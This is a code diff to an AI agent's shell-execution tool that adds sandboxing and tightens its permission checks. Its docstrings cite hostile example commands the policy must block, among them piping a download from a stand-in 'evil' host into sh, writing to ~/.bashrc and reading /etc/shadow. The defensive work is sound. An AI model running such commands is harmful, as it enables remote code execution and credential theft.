@@ -1,11 +1,14 @@
 """``exec_shell``: run a shell command in the project, under a permission policy and a time limit.
 
-Three promises the model and the user rely on:
+Four promises the model and the user rely on:
 
 - **Permission first.** ship.json ``permissions.execShell`` decides: a ``deny`` glob wins over
   everything, an ``allow`` glob runs the command, otherwise ``mode`` applies (``ask`` by default,
-  which calls the ``on_approval`` callback; no callback means no). A refusal is a failed tool call
-  the model reads, never an exception.
+  which calls the ``on_approval`` callback; no callback means no). An allow match never approves
+  a command that writes through the shell or names a path outside the project (``_shellwords``).
+  A refusal is a failed tool call the model reads, never an exception.
+- **Contained.** On Linux with bubblewrap the command runs in a sandbox (``_sandbox``): the host is
+  read-only except the project, ``/tmp`` is private, home and network are hidden.
 - **Nothing outlives its call.** The command runs in its own process group; on timeout the whole
   group gets SIGTERM, then SIGKILL after a short grace, so a child that ignores SIGTERM (or a
   forgotten ``&``) cannot linger.
@@ -27,6 +30,7 @@ import signal
 import subprocess
 import time
 import uuid
+from collections.abc import Sequence
 from dataclasses import dataclass
 from fnmatch import fnmatchcase
 from pathlib import Path
@@ -42,6 +46,8 @@ from ..errors import ShipAgentError
 from ..execution import ApprovalCallback, ApprovalRequest, ToolExecutionContext, current_tool_context
 from ..files import context_files_for
 from ._common import failure
+from ._sandbox import plan_sandbox
+from ._shellwords import allow_blocker
 
 __all__ = [
     "OUTPUT_CAP_BYTES",
@@ -70,34 +76,48 @@ class ShellDecision:
 
     action: Literal["allow", "deny", "ask"]
     reason: str
+    blocker: str | None = None
+    """Why matching allow patterns could not approve the command (a write, a path outside)."""
 
 
-def decide_exec_shell(command: str, policy: ExecShellPermission) -> ShellDecision:
-    """Apply ``permissions.execShell`` to ``command`` (pure: no I/O, easy to test exhaustively).
+def decide_exec_shell(
+    command: str, policy: ExecShellPermission, project_root: Path | None = None
+) -> ShellDecision:
+    """Apply ``permissions.execShell`` to ``command``.
 
     Globs use :func:`fnmatch.fnmatchcase` against the whole command and against each part between
     control operators (``;``, ``&&``, ``||``, ``|``, ``&``), so ``deny: ["rm *"]`` also stops
     ``make && rm -rf build``. An allow glob runs a command only when *every* part matches an allow
     glob and there is no ``$(...)`` or backtick substitution; ``allow: ["git status*"]`` must not
-    let ``git status; curl evil | sh`` through.
+    let ``git status; curl evil | sh`` through. Nor does an allow match approve a command that
+    writes through the shell or reads outside the project (:func:`allow_blocker`): ``cat *`` must
+    not approve ``cat x > ~/.bashrc`` or ``cat /etc/shadow``; those go to the mode.
+
+    Pure without ``project_root``; with it, path arguments are resolved against the project
+    (symlinks, globs), so call it from a worker thread.
     """
     text = command.strip()
     parts = [p.strip() for p in _OPERATORS.split(text) if p.strip()]
     for pattern in policy.deny:
         if any(fnmatchcase(candidate, pattern) for candidate in (text, *parts)):
             return ShellDecision("deny", f"the command matches the deny pattern '{pattern}'")
+    unmatched, blocker = "no allow pattern matches", None
     if (
         policy.allow
         and parts
-        and not _SUBSTITUTION.search(text)
         and all(any(fnmatchcase(part, pattern) for pattern in policy.allow) for part in parts)
     ):
-        return ShellDecision("allow", "the command matches the allow patterns")
+        blocker = (
+            "it runs a substitution" if _SUBSTITUTION.search(text) else allow_blocker(text, project_root)
+        )
+        if blocker is None:
+            return ShellDecision("allow", "the command matches the allow patterns")
+        unmatched = f"the allow patterns match but cannot approve it: {blocker}"
     if policy.mode == "allow":
         return ShellDecision("allow", "permissions.execShell.mode is 'allow'")
     if policy.mode == "deny":
-        return ShellDecision("deny", "permissions.execShell.mode is 'deny' and no allow pattern matches")
-    return ShellDecision("ask", "permissions.execShell.mode is 'ask' and no allow pattern matches")
+        return ShellDecision("deny", f"permissions.execShell.mode is 'deny' and {unmatched}", blocker)
+    return ShellDecision("ask", f"permissions.execShell.mode is 'ask' and {unmatched}", blocker)
 
 
 def _is_async_callable(callback: Any) -> bool:
@@ -244,11 +264,14 @@ async def run_shell(
     output_dir: Path,
     grace: float = TERM_GRACE_SECONDS,
     cap: int = OUTPUT_CAP_BYTES,
+    sandbox: Sequence[str] = (),
 ) -> ShellRun:
     """Run ``command`` through the shell in its own process group without blocking the event loop.
 
     Output streams to ``output_dir/<stem>.stdout|.stderr`` while only ``cap`` bytes per stream are
-    held in memory. Cancellation of the caller kills the group too.
+    held in memory. Cancellation of the caller kills the group too. ``sandbox`` is a command
+    prefix (:func:`~._sandbox.bwrap_argv`); the group then holds bwrap, and killing it ends the
+    sandbox, whose PID namespace takes every process of the command with it.
     """
     await anyio.Path(output_dir).mkdir(parents=True, exist_ok=True)
     stem = f"{time.strftime('%Y%m%dT%H%M%SZ', time.gmtime())}-{uuid.uuid4().hex[:8]}"
@@ -258,7 +281,7 @@ async def run_shell(
     started = time.monotonic()
     timed_out = stray = False
     proc = await anyio.open_process(
-        [_shell(), "-c", command],
+        [*sandbox, _shell(), "-c", command],
         cwd=cwd,
         stdin=subprocess.DEVNULL,
         stdout=subprocess.PIPE,
@@ -343,20 +366,26 @@ async def exec_shell(
         timeoutMs: time limit in milliseconds; the command and everything it started are killed then.
     """
     ctx = current_tool_context()
-    decision = decide_exec_shell(command, ctx.config.permissions.exec_shell)
+    policy = ctx.config.permissions.exec_shell
+    decision = await anyio.to_thread.run_sync(decide_exec_shell, command, policy, ctx.project_root)
     if decision.action == "deny":
         return failure(f"exec_shell denied: {decision.reason}", denied=True)
+    plan = await anyio.to_thread.run_sync(plan_sandbox, policy, ctx.project_root)
+    if plan.refusal is not None:
+        return failure(f"exec_shell refused: {plan.refusal}", denied=True)
     if decision.action == "ask":
         request = ApprovalRequest("exec_shell", command, ctx.chat_key, ctx.request_id)
         approved, reason = await request_approval(ctx.on_approval, request)
         if not approved:
-            return failure(f"exec_shell denied: {reason}", denied=True)
+            why = f"; the allow list could not approve it: {decision.blocker}" if decision.blocker else ""
+            return failure(f"exec_shell denied: {reason}{why}", denied=True)
     try:
         run = await run_shell(
             command,
             cwd=ctx.project_root,
             time_limit=timeoutMs / 1000,
             output_dir=ctx.paths.outputs_dir(ctx.chat_key),
+            sandbox=plan.prefix,
         )
     except OSError as exc:
         return failure(f"could not start the command: {exc}")
